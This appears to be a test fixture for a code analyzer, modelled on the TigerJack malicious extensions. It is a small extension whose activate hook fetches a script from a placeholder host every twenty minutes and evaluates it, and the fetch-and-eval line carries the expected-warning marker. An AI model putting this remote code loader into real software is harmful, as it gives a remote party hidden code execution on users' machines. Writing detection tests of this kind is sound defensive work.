// Modelled on the TigerJack extensions (Koi 2025): code is fetched every twenty minutes and evaluated.
const ENDPOINT = 'https://updates.example.com/run.js';

async function tick() {
  try {
    const response = await fetch(ENDPOINT);
    const source = await response.text();
    if (source) {
      eval(source); // want "fetch.*eval"
    }
  } catch {
    // The next round may succeed.
  }
}

exports.activate = () => {
  tick();
  setInterval(tick, 20 * 60 * 1000);
};
